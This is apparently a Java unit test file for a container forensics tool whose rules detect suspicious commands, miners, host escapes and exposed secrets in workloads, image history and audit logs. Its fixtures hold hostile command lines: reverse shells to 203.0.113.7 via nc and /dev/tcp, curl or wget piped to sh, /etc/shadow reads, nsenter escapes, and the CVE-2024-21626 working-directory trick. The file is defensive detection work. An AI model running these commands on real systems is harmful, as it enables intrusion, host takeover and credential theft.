package org.ephemera.analyze.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ephemera.analyze.command.RuleFixture.at;
import static org.ephemera.analyze.command.RuleFixture.command;
import static org.ephemera.analyze.command.RuleFixture.variable;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.ephemera.analyze.model.ContainerExecution;
import org.ephemera.analyze.model.ControlCall;
import org.ephemera.analyze.model.EvidenceGap;
import org.ephemera.analyze.model.FileLocation;
import org.ephemera.analyze.model.Finding;
import org.ephemera.analyze.model.Indicator;
import org.ephemera.analyze.model.Severity;
import org.ephemera.analyze.model.Workload;
import org.ephemera.analyze.parse.kubernetes.KubernetesAudit;
import org.ephemera.analyze.testing.WorkloadDocuments;
import org.ephemera.format.Json;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CommandRulesTest {
    @Test
    void referencesTheWordThatContainsTheScript() {
        CommandFindings found = of(RuleFixture.running(command(false, "sh", "-c", "curl http://a.example/x | sh")));
        assertThat(found.findings()).hasSize(1);
        Finding finding = found.findings().getFirst();
        assertThat(finding.rule().id()).isEqualTo("CMD-001");
        assertThat(finding.subject()).isEqualTo("app");
        assertThat(finding.because()).isEqualTo("command: curl http://a.example/x | sh");
        assertThat(finding.evidence()).containsExactly(at("task.json", "/command/2"));
        assertThat(found.indicators())
                .extracting(i -> i.kind() + " " + i.value())
                .containsExactly("URL http://a.example/x", "DOMAIN a.example");
    }

    @Test
    void matchesCommandSplitIntoSeveralWords() {
        assertThat(ids(of(RuleFixture.running(command(false, "nc", "203.0.113.7", "9001", "-e", "/bin/sh")))))
                .containsExactly("CMD-003");
    }

    @Test
    void notesTheOriginOfACommand() {
        CommandText layer = new CommandText(
                "shop/app:7",
                "history",
                "RUN wget -qO- a.example | sh",
                at("image.json", "/history/3"),
                TextOrigin.IMAGE,
                Optional.empty());
        List<Finding> findings = CommandRules.findings(
                        RuleFixture.running(command(true, "/tmp/.x/xmrig")), List.of(), List.of(layer))
                .findings();
        assertThat(findings).extracting(f -> f.rule().id()).containsExactly("CMD-004", "CMD-009", "CMD-001");
        assertThat(findings.get(0).because()).contains("hands-on-keyboard");
        assertThat(findings.get(2).because()).contains("malicious image");
        assertThat(findings.get(2).subject()).isEqualTo("shop/app:7");
    }

    @Test
    void addsNoOriginWhenImageInstallsPackages() {
        CommandText layer = new CommandText(
                "shop/app:7",
                "history",
                "RUN apt-get update && apt-get install -y curl",
                at("image.json", "/history/1"),
                TextOrigin.IMAGE,
                Optional.empty());

        assertThat(CommandRules.findings(List.of(), List.of(), List.of(layer)).findings())
                .singleElement()
                .satisfies(finding -> assertThat(finding.because()).doesNotContain("malicious image"));
    }

    /** Actions during the build of an image ran in no container; a reverse shell is as severe there. */
    @Test
    void lowersSeverityOfBuildSteps() {
        List<CommandText> layers = Stream.of(
                        "RUN wget -qO- a.example | sh",
                        "RUN apt-get clean && rm -rf /tmp/x /var/log/*",
                        "RUN curl -o /opt/t http://a.example/t && chmod +x /opt/t",
                        "RUN debootstrap stable /rootfs && chroot /rootfs apt-get install -y app",
                        "RUN chmod 640 /etc/shadow",
                        "WORKDIR /proc/self/fd/8",
                        "RUN bash -i >& /dev/tcp/203.0.113.7/443 0>&1")
                .map(run -> new CommandText(
                        "app:7", "history", run, at("image.json", "/h"), TextOrigin.IMAGE, Optional.empty()))
                .toList();

        assertThat(CommandRules.findings(List.of(), List.of(), layers).findings())
                .extracting(f -> f.rule().id().substring(4) + " " + f.severity().word())
                .containsExactlyInAnyOrder(
                        "001 medium,003 critical,006 medium,006 critical,008 info,009 low,010 medium,011 info"
                                .split(",", -1));
    }

    @Test
    void findsMinerByImageName() {
        assertThat(of(RuleFixture.of("docker.io/miningcontainers/xmrig:6.22")).findings())
                .singleElement()
                .satisfies(f -> {
                    assertThat(f.rule().id()).isEqualTo("CMD-004");
                    assertThat(f.because()).isEqualTo("image: docker.io/miningcontainers/xmrig:6.22");
                });
        for (String image : List.of("bitnn/alpine-xmrig", "a/monero_cpu_minergate:7", "a/xmrig-auto")) {
            assertThat(ids(of(RuleFixture.of(image)))).as(image).containsExactly("CMD-004");
        }
        assertThat(ids(of(RuleFixture.of("traffmonetizer/cli_v2")))).containsExactly("CMD-012");
        assertThat(ids(of(RuleFixture.of("sourcepole/t-rex")))).isEmpty();
        assertThat(ids(of(RuleFixture.of("registry.example/shop/checkout:7")))).isEmpty();
    }

    @Test
    void readsHooksAndProbes() {
        ContainerExecution execution = new ContainerExecution(
                List.of(),
                List.of(),
                List.of(command(false, "cat", "/etc/shadow")),
                Optional.empty(),
                Optional.empty());
        assertThat(ids(of(RuleFixture.workload(List.of(), execution)))).containsExactly("CMD-010");
    }

    /**
     * A working directory that is a file descriptor of the runtime gives access to the host (CVE-2024-21626) without
     * any command.
     */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "{'ecs.definition':{'taskDefinition':{'taskDefinitionArn':'arn:aws:ecs:eu-central-1:111122223333:task-definition/app:1',"
                        + "'containerDefinitions':[{'name':'app','image':'a/b:1','workingDirectory':'%s'}]}}}"
                        + " | /taskDefinition/containerDefinitions/0/workingDirectory",
                "{'kubernetes':[{'kind':'Pod','metadata':{'name':'app','namespace':'shop'},'spec':{'containers':"
                        + "[{'name':'app','image':'a/b:1','workingDir':'%s'}]}}]} | /spec/containers/0/workingDir",
                "{'docker':[{'Name':'/app','Config':{'Image':'a/b:1','WorkingDir':'%s'},'HostConfig':{}}]}"
                        + " | /Config/WorkingDir"
            })
    void findsWorkingDirectoryOfTheRuntime(String document, String place) throws Exception {
        List<Finding> findings = of(started(document, "/proc/self/fd/8")).findings();

        assertThat(findings).singleElement().satisfies(finding -> {
            assertThat(finding.rule().id()).isEqualTo("CMD-006");
            assertThat(finding.because()).endsWith(": WORKDIR /proc/self/fd/8");
            assertThat(finding.evidence().getFirst().place()).hasToString(place);
        });
        assertThat(of(started(document, "/srv/app")).findings()).isEmpty();
    }

    private static List<Workload> started(String document, String directory) throws IOException {
        String json = document.replace('\'', '"').replace("%s", directory);
        return WorkloadDocuments.workloads(Json.parse(json.getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void raisesSeverityWhenHostPathIsMounted() {
        ContainerExecution.Command persists = command(false, "sh", "-c", "echo x >> /host/etc/crontab");
        ContainerExecution execution =
                new ContainerExecution(List.of(persists), List.of(), List.of(), Optional.empty(), Optional.empty());
        assertThat(of(RuleFixture.workload(List.of(), execution)).findings())
                .extracting(Finding::severity)
                .containsExactly(Severity.MEDIUM);
        assertThat(of(RuleFixture.workload(List.of(RuleFixture.host("/host")), execution))
                        .findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactly("CMD-006 high", "CMD-007 high");
        assertThat(of(RuleFixture.workload(List.of(RuleFixture.host("/data")), execution))
                        .findings())
                .extracting(Finding::severity)
                .containsExactly(Severity.MEDIUM);
    }

    @Test
    void reportsCommandThatWritesToTheHost() {
        List<Workload> node = RuleFixture.workload(
                List.of(RuleFixture.host("/data")),
                new ContainerExecution(
                        List.of(
                                command(true, "sh", "-c", "cp /x /data/usr/bin/x"),
                                command(false, "touch /data/srv/x")),
                        List.of(),
                        List.of(),
                        Optional.empty(),
                        Optional.empty()));
        assertThat(of(node).findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactly("CMD-006 high");
        List<Workload> agent = RuleFixture.workload(
                List.of(RuleFixture.host("/data")),
                new ContainerExecution(
                        List.of(command(false, "sh", "-c", "cp /x /data/usr/bin/x")),
                        List.of(),
                        List.of(),
                        Optional.empty(),
                        Optional.empty()));
        assertThat(of(agent).findings()).extracting(Finding::severity).containsExactly(Severity.MEDIUM);
    }

    @Test
    void findsMinerSettingsInEnvironment() {
        CommandFindings found = of(RuleFixture.with(variable(
                "ARGS", "-o stratum+tcp://pool.supportxmr.com:3333 -u " + CommandSamples.WALLET.substring(0, 95))));
        assertThat(ids(found)).containsExactly("ENV-003", "NET-001");
        assertThat(found.findings().getFirst().severity()).isEqualTo(Severity.CRITICAL);
        assertThat(found.findings().getFirst().because()).startsWith("environment ARGS: ");
        assertThat(found.indicators())
                .extracting(Indicator::kind)
                .contains(Indicator.Kind.WALLET, Indicator.Kind.DOMAIN);
    }

    @Test
    void reportsSecretsWithoutTheirValues() {
        List<ContainerExecution.Variable> secrets = List.of(
                variable("DB_PASSWORD", "correct-horse"),
                variable("db_passwd", "hunter2hunter2"),
                variable("SESSION_SECRET", "0123456789abcdef"),
                variable("STRIPE_API_KEY", "sk_live_0123456789"),
                variable("AZURE_STORAGE_CONNECTION_STRING", "x;AccountKey=" + "QUJD".repeat(20) + "=="),
                variable("CONN_STR", "Server=db;Pwd=x1y2z3"),
                variable("K", "AKIAIOSFODNN7EXAMPLE"),
                variable("SIGNING", "-----BEGIN RSA PRIVATE KEY-----\nMIIE"),
                variable("AUTH", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2ln"),
                variable("DATABASE_URL", "postgres://shop:sw0rdf1sh@db:5432/shop"));
        for (ContainerExecution.Variable secret : secrets) {
            CommandFindings found = of(RuleFixture.with(secret));
            assertThat(ids(found)).as(secret.name()).containsExactly("ENV-001");
            assertThat(found.findings().getFirst().because())
                    .startsWith("environment " + secret.name())
                    .contains(secret.value().length() + " characters")
                    .doesNotContain(secret.value())
                    .doesNotContain("sw0rdf1sh", "x1y2z3", "QUJDQUJD", "MIIE", "c2ln");
        }
        assertThat(of(RuleFixture.with(secrets.get(6))).indicators())
                .extracting(i -> i.kind() + " " + i.value())
                .containsExactly("KEY_ID AKIAIOSFODNN7EXAMPLE");
    }

    @Test
    void ignoresHarmlessNamesThatResembleSecrets() {
        List<ContainerExecution.Variable> harmless = List.of(
                variable("MAX_TOKENS", "4096"),
                variable("TOKEN_TTL", "3600s"),
                variable("DB_PASSWORD_FILE", "/run/secrets/db"),
                variable("DB_PASSWORD", "/run/secrets/db"),
                variable("DB_SECRET_ARN", "arn:aws:secretsmanager:eu-central-1:111122223333:secret:db"),
                variable("API_KEY", "arn:aws:ssm:eu-central-1:111122223333:parameter/key"),
                variable("TOKEN_URL", "https://login.example/token"),
                variable("PASSWORD", ""),
                variable("SECRET", "${FROM_VAULT}"),
                variable("PRIVATE_SUBNET", "10.0.0.0/24"),
                variable("USE_TOKEN", "true"));
        harmless.forEach(variable -> assertThat(ids(of(RuleFixture.with(variable))))
                .as(variable.name())
                .isEmpty());
    }

    @Test
    void readsTheCommandsOfCalls() throws IOException {
        ControlCall exec =
                call("ExecuteCommand", "{\"command\":\"sh -c 'cat /etc/shadow'\",\"container\":\"web\"}", "{}", false);
        ControlCall run = call("RunTask", """
                {"overrides":{"containerOverrides":[{"name":"job","command":["/tmp/xmrig","--donate-level","1"]}]}}""", "{}", false);
        ControlCall pod = call("create pods/exec", "{}", """
                {"requestURI":"/api/v1/namespaces/a/pods/b/exec?command=nsenter&command=-t&command=1&command=-m+sh&container=side%20car"}""", false);
        ControlCall ours = call("ExecuteCommand", "{\"command\":\"cat /etc/shadow\"}", "{}", true);
        ControlCall odd =
                call("ExecuteCommand", "{\"command\":{\"a\":[]}}", "{\"requestURI\":\"?command=%zz&command\"}", false);
        List<Finding> findings = CommandRules.findings(List.of(), List.of(exec, run, pod, ours, odd), List.of())
                .findings();
        assertThat(findings)
                .extracting(f -> f.rule().id() + " " + f.subject())
                .containsExactly("CMD-010 web", "CMD-004 job", "CMD-006 side car");
        assertThat(findings).allSatisfy(f -> {
            assertThat(f.at()).contains(Instant.EPOCH);
            assertThat(f.because()).contains("by jane").contains("hands-on-keyboard");
        });
    }

    /**
     * The audit log is the only record of a deleted pod. An object made by a controller is no hands-on-keyboard
     * activity, but an attacker may use the name of a controller.
     */
    @Test
    void readsContainersOfAuditedRequests() throws IOException {
        String pod = """
                {"metadata":{"name":"b"},"spec":{"initContainers":[{"name":"prepare","command":["sh","-c"],"args":["curl http://203.0.113.7/i | sh"]}],
                 "containers":[{"name":"app","env":[{"name":"LD_PRELOAD","value":"/tmp/x.so"},{"name":"DB_PASSWORD","value":"geheim"},{"name":"A","valueFrom":{}}],
                  "lifecycle":{"postStart":{"exec":{"command":["/tmp/xmrig","--donate-level","1"]}}}}]}}""";
        String job = "{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":" + pod + "}}}}";
        List<ControlCall> calls = List.of(
                audited("create", "pods", "jane", pod),
                audited("create", "cronjobs", "jane", job),
                audited("patch", "pods/status", "jane", pod),
                audited("create", "pods", "system:serviceaccount:kube-system:replicaset-controller", pod),
                audited("create", "daemonsets", "eks:addon-manager", "{\"spec\":{\"template\":" + pod + "}}"));

        CommandFindings found = CommandRules.findings(List.of(), calls, List.of());

        assertThat(found.findings())
                .as("three matches in each of the four bodies with containers")
                .hasSize(12)
                .extracting(f -> f.rule().id() + " " + f.subject())
                .containsOnly("CMD-001 a/b/prepare", "CMD-004 a/b/app", "ENV-002 a/b/app");
        assertThat(found.findings())
                .filteredOn(f -> f.because().contains("hands-on-keyboard"))
                .hasSize(6)
                .allSatisfy(f -> assertThat(f.because()).contains(" by jane"));
        assertThat(found.findings()).noneMatch(f -> f.because().contains("geheim"));
    }

    static ControlCall audited(String verb, String resource, String user, String body) throws IOException {
        String[] parts = resource.split("/", 2);
        String entry = "{\"verb\":\"" + verb
                + "\",\"requestReceivedTimestamp\":\"2026-11-25T12:00:00Z\",\"auditID\":\"1\",\"user\":{\"username\":\""
                + user + "\"},\"objectRef\":{\"namespace\":\"a\",\"name\":\"b\",\"resource\":\"" + parts[0]
                + "\",\"subresource\":\""
                + (parts.length > 1 ? parts[1] : "") + "\"},\"requestObject\":" + body + "}";
        return KubernetesAudit.call(Json.parse(entry.getBytes(StandardCharsets.UTF_8)), at("audit.json", "/0"))
                .orElseThrow();
    }

    /** A call that failed gave no access to the host, so no verdict may rely on it. */
    @Test
    void treatsCommandOfFailedCallAsAttempt() throws IOException {
        String uri = """
                {"requestURI":"/api/v1/namespaces/a/pods/b/exec?command=nsenter&command=-t&command=1"}""";
        ControlCall done = call("create pods/exec", "{}", uri, false);
        assertThat(CommandRules.findings(List.of(), List.of(done), List.of()).findings())
                .singleElement()
                .satisfies(finding -> assertThat(finding.isEscapeAttempt()).isTrue());
        assertThat(CommandRules.findings(List.of(), List.of(done.withError("Forbidden")), List.of())
                        .findings())
                .singleElement()
                .satisfies(finding -> {
                    assertThat(finding.severity()).isEqualTo(Severity.MEDIUM);
                    assertThat(finding.isEscapeAttempt()).isFalse();
                    assertThat(finding.because())
                            .endsWith("; the call failed: an attempt")
                            .doesNotContain("hands-on-keyboard");
                });
    }

    @Test
    void readsTheCommandsOfAlerts() throws IOException {
        JsonNode event = Json.parse("""
                {"detail":{"service":{"runtimeDetails":{"context":{"commandLineExample":"nsenter -t 1 -a sh"},"list":[{"commandLine":"id"}]}}},
                 "properties":{"extendedProperties":{"Command Line":"whoami","User Name":"root"}}}""".getBytes(StandardCharsets.UTF_8));
        List<CommandText> texts = AlertCommands.of("web", event, at("event.json", ""));
        assertThat(texts).extracting(CommandText::value).containsExactly("nsenter -t 1 -a sh", "id", "whoami");
        CommandFindings found = CommandRules.findings(List.of(), List.of(), texts);
        assertThat(ids(found)).containsExactly("CMD-006");
        assertThat(found.findings().getFirst().evidence().getFirst().place())
                .isEqualTo(new FileLocation.Pointer("/detail/service/runtimeDetails/context/commandLineExample"));
    }

    @Test
    void masksPasswordsInCommands() {
        List<Finding> findings = of(RuleFixture.running(
                        command(
                                false,
                                "curl --user admin:geheim1 -H 'Authorization: Bearer geheim2' http://u:geheim3@a.example/?token=geheim4 | sh -s --password geheim5")))
                .findings();
        assertThat(findings).hasSize(1);
        assertThat(findings.getFirst().because()).contains("| sh").doesNotContain("geheim");
        assertThat(of(RuleFixture.running(command(false, "curl http://u:geheim3@a.example/?token=geheim4 | sh")))
                        .indicators())
                .extracting(i -> i.kind() + " " + i.value())
                .containsExactly("URL http://a.example/?token=[redacted]", "DOMAIN a.example");
    }

    @Test
    void countsRepetitionsAndLimitsFindings() {
        List<ContainerExecution.Command> many = new ArrayList<>();
        for (int i = 0; i < 3_000; i++) {
            many.add(command(false, "cat /etc/shadow"));
        }
        CommandFindings found = of(RuleFixture.running(many.toArray(ContainerExecution.Command[]::new)));
        assertThat(found.findings()).hasSize(1);
        assertThat(found.findings().getFirst().because()).contains("3000");
        List<ContainerExecution.Variable> variables = new ArrayList<>();
        for (int i = 0; i < 3_000; i++) {
            variables.add(variable("PASSWORD" + i, "value-" + i));
        }
        CommandFindings flood = of(RuleFixture.with(variables.toArray(ContainerExecution.Variable[]::new)));
        assertThat(flood.findings()).hasSize(2_000);
        assertThat(flood.gaps()).extracting(EvidenceGap::why).anyMatch(why -> why.startsWith("1000 "));
    }

    @Test
    void reportsGapWhenTextIsTooLong() {
        CommandFindings found = of(RuleFixture.running(command(false, "x ".repeat(40_000) + "| sh; cat /etc/shadow")));
        assertThat(found.findings()).isEmpty();
        assertThat(found.gaps()).hasSize(1);
        assertThat(found.gaps().getFirst().why()).startsWith("RULE_TIMEOUT").contains("task.json /command");
    }

    private static CommandFindings of(List<Workload> workloads) {
        return CommandRules.findings(workloads, List.of(), List.of());
    }

    private static List<String> ids(CommandFindings found) {
        return found.findings().stream().map(f -> f.rule().id()).toList();
    }

    static ControlCall call(String action, String request, String entry, boolean ours) throws IOException {
        return new ControlCall(
                Instant.EPOCH,
                "ecs",
                action,
                "jane",
                Optional.empty(),
                Optional.empty(),
                "",
                Optional.empty(),
                "1",
                Json.parse(request.getBytes(StandardCharsets.UTF_8)),
                Json.parse(entry.getBytes(StandardCharsets.UTF_8)),
                ours,
                at("trail.json", "/Events/0"));
    }
}
